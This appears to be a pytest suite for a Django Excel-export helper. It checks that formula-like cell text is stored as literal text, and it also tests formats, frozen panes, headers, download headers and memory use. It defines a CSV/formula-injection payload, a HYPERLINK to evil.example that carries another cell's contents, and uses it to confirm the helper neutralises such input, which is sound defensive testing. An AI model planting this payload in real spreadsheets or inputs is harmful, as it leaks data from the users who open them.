"""``common.excel``: the one writer of every export and report.

Each test writes a workbook with the helper, reads it back with openpyxl (and,
where the rule is about the file itself, reads the sheet's XML), and checks
what a person opening it in Excel would get.
"""

import datetime
import io
import tracemalloc
import zipfile
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.http import FileResponse
from openpyxl import Workbook, load_workbook

from common import excel

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&B2,"点击查看")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SHANGHAI = ZoneInfo("Asia/Shanghai")


def written(rows, *, columns=None, heading=None, freeze_columns=0, total=None) -> bytes:
    workbook = excel.ExcelWorkbook()
    sheet = workbook.add_sheet(
        "表",
        columns or [excel.Column("文本", 30)],
        heading=heading,
        freeze_columns=freeze_columns,
    )
    sheet.extend(rows)
    if total is not None:
        sheet.append(total, total=True)
    return workbook.to_bytes()


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize(
    "text",
    [PAYLOAD, "=1+1", "+86 138 0000 0000", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"],
)
def test_a_text_that_starts_like_a_formula_is_written_as_literal_text(text):
    content = written([[text]])

    cell = load_workbook(io.BytesIO(content)).active["A2"]
    assert (cell.value, cell.data_type) == (text, "s")
    assert cell.quotePrefix is True  # Excel keeps it text when someone edits the cell
    assert "<f>" not in sheet_xml(content) and "<f " not in sheet_xml(content)


def test_ordinary_text_numbers_and_dates_keep_their_types():
    columns = [
        excel.Column("文本"),
        excel.Column("整数"),
        excel.Column("金额", number_format=excel.AMOUNT_FORMAT),
        excel.Column("日期"),
        excel.Column("时间"),
    ]
    moment = datetime.datetime(2026, 12, 1, 10, 0)

    content = written([["订单下滑 = 三成", 300, Decimal("1234.50"), moment.date(), moment]], columns=columns)

    row = next(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
    midnight = datetime.datetime(2026, 12, 1)  # openpyxl reads every date back as a datetime
    assert [cell.value for cell in row] == ["订单下滑 = 三成", 300, 1234.5, midnight, moment]
    assert [cell.data_type for cell in row] == ["s", "n", "n", "d", "d"]
    assert [cell.number_format for cell in row] == ["General", "General", "#,##0.00", "yyyy-mm-dd", "yyyy-mm-dd hh:mm"]
    assert row[0].quotePrefix is False


def test_the_number_formats_are_stated_once():
    assert (excel.INTEGER_FORMAT, excel.AMOUNT_FORMAT, excel.PERCENT_FORMAT) == ("#,##0", "#,##0.00", "0.0%")
    assert (excel.ONE_DECIMAL_FORMAT, excel.DATE_FORMAT, excel.DATETIME_FORMAT) == (
        "0.0",
        "yyyy-mm-dd",
        "yyyy-mm-dd hh:mm",
    )
    assert excel.with_unit("产值", "万元") == "产值（万元）"


def test_a_sheet_has_widths_a_title_row_and_the_header_frozen_below_it():
    columns = [excel.Column("编号", 8), excel.Column("问题标题", 36), excel.Column("企业", 30, required=True)]

    content = written([[1, "订单不足", "甲企业"]], columns=columns, heading="问题台账（导出时间 2026-12-01 10:00）")

    sheet = load_workbook(io.BytesIO(content)).active
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["问题台账（导出时间 2026-12-01 10:00）", None, None],
        ["编号", "问题标题", "企业"],
        [1, "订单不足", "甲企业"],
    ]
    assert sheet.freeze_panes == "A3"
    assert [sheet.column_dimensions[letter].width for letter in "ABC"] == [8, 36, 30]
    assert sheet["A1"].font.bold and sheet["A1"].font.size == 13
    header, required = sheet["A2"], sheet["C2"]
    assert header.font.bold and header.fill.fgColor.rgb == "00DDEBF7"
    assert required.font.bold and required.fill.fgColor.rgb == "00C0392B"  # a column one must fill in is red


@pytest.mark.parametrize(("heading", "freeze_columns", "panes"), [(None, 0, "A2"), (None, 1, "B2"), ("标题", 1, "B3")])
def test_the_panes_freeze_below_the_header_and_right_of_the_frozen_columns(heading, freeze_columns, panes):
    content = written([["甲"]], heading=heading, freeze_columns=freeze_columns)

    assert load_workbook(io.BytesIO(content)).active.freeze_panes == panes


def test_a_value_may_carry_its_own_format_and_a_total_row_is_bold():
    columns = [excel.Column("指标"), excel.Column("数值", number_format=excel.INTEGER_FORMAT)]

    content = written(
        [["走访覆盖率", excel.Formatted(0.125, excel.PERCENT_FORMAT)], ["产值", "不可用"]],
        columns=columns,
        total=["合计", 42],
    )

    sheet = load_workbook(io.BytesIO(content)).active
    assert (sheet["B2"].value, sheet["B2"].number_format) == (0.125, "0.0%")
    assert (sheet["B3"].value, sheet["B3"].data_type) == ("不可用", "s")
    assert (sheet["A4"].value, sheet["B4"].value, sheet["B4"].number_format) == ("合计", 42, "#,##0")
    assert sheet["A4"].font.bold and sheet["B4"].font.bold


def test_characters_xml_cannot_hold_are_dropped_instead_of_failing_the_export():
    content = written([["订单\x0b下滑\x00"], ["=A1\x1f"]])

    sheet = load_workbook(io.BytesIO(content)).active
    assert [sheet["A2"].value, sheet["A3"].value] == ["订单下滑", "=A1"]


def test_the_ordinary_workbook_helpers_write_text_and_the_header_look():
    workbook = Workbook()
    sheet = workbook.active
    excel.style_header_cell(sheet.cell(row=1, column=1, value="企业名称"), required=True)
    excel.literal_text(sheet.cell(row=2, column=1), PAYLOAD)
    buffer = io.BytesIO()
    workbook.save(buffer)

    sheet = load_workbook(buffer).active
    assert sheet["A1"].fill.fgColor.rgb == "00C0392B" and sheet["A1"].font.bold
    assert (sheet["A2"].value, sheet["A2"].data_type, sheet["A2"].quotePrefix) == (PAYLOAD, "s", True)


def test_the_export_heading_names_the_moment_in_the_zones_time():
    with time_machine.travel(datetime.datetime(2026, 12, 1, 10, 0, tzinfo=SHANGHAI), tick=False):
        assert excel.export_heading("问题台账") == "问题台账（导出时间 2026-12-01 10:00）"


def test_bytes_are_sent_with_the_xlsx_type_and_a_chinese_file_name():
    response = excel.xlsx_response(b"PK", filename="月度分析报告-2026-10.xlsx")

    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%E6%9C%88%E5%BA%A6%E5%88%86%E6%9E%90%E6%8A%A5%E5%91%8A-2026-10.xlsx"
    )
    assert response.content == b"PK"


def test_a_file_is_streamed_with_the_same_headers():
    rows = ([f"企业{index}", index] for index in range(3))
    response = excel.export_response(
        filename="问题台账-20261201.xlsx",
        sheet_title="问题台账",
        columns=[excel.Column("企业"), excel.Column("编号")],
        rows=rows,
        heading="问题台账",
    )

    assert isinstance(response, FileResponse) and response.streaming
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%E9%97%AE%E9%A2%98%E5%8F%B0%E8%B4%A6-20261201.xlsx"
    )
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert [row for row in sheet.iter_rows(min_row=3, values_only=True)] == [("企业0", 0), ("企业1", 1), ("企业2", 2)]


def _peak_bytes_writing(rows: int) -> int:
    columns = [excel.Column("企业", 30), excel.Column("走访情况", 40), excel.Column("产值", 16, excel.AMOUNT_FORMAT)]
    tracemalloc.start()
    try:
        workbook = excel.ExcelWorkbook()
        workbook.add_sheet("走访记录", columns, heading="走访记录").extend(
            (f"企业{index}有限公司", PAYLOAD if index % 2 else "订单下滑", 1.5 * index) for index in range(rows)
        )
        workbook.to_temporary_file().close()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_memory_stays_flat_however_many_rows_are_written():
    """Rows stream to a temporary file: five times the rows, (almost) the same peak."""
    small, large = _peak_bytes_writing(1_000), _peak_bytes_writing(5_000)

    assert large < small + 256 * 1024
    assert large < 2 * 1024 * 1024
